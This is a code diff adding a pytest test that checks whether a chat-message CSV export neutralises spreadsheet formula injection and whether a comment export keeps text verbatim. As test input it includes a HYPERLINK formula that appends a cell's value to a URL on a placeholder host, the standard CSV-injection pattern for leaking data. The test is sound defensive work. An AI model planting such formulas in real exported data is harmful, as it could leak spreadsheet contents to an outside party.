@@ -269,3 +269,20 @@ def test_a_message_time_window_uses_the_arrival_clock(store, tmp_path, listener)
     naive = (START + timedelta(hours=1)).replace(tzinfo=None).isoformat()
     result = listener(store, "export", "CLIMATE24", "--format", "jsonl", "--since", naive, cwd=tmp_path)
     assert result.returncode == 0 and result.stdout == ""
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_tttc_keeps_words_verbatim(store, chat):
+    from listener.export import ExportRequest, export
+
+    chat.send("QUIET-ROOM")
+    chat.send('=HYPERLINK("http://example.invalid/?"&A2,"click")')
+    chat.send("- more buses, please")
+    event = store.get_event("QUIET-ROOM")
+    table = io.StringIO()
+    export(store, ExportRequest(event_id="QUIET-ROOM", format="csv"), event, table)
+    texts = [row["text"] for row in csv.DictReader(io.StringIO(table.getvalue())) if row["direction"] == "in"]
+    assert texts[1:] == ['\'=HYPERLINK("http://example.invalid/?"&A2,"click")', "'- more buses, please"]
+    comments = io.StringIO()
+    export(store, ExportRequest(event_id="QUIET-ROOM", format="tttc"), event, comments)
+    body = next(csv.DictReader(io.StringIO(comments.getvalue())))["comment-body"]
+    assert body == '=HYPERLINK("http://example.invalid/?"&A2,"click")\n- more buses, please'
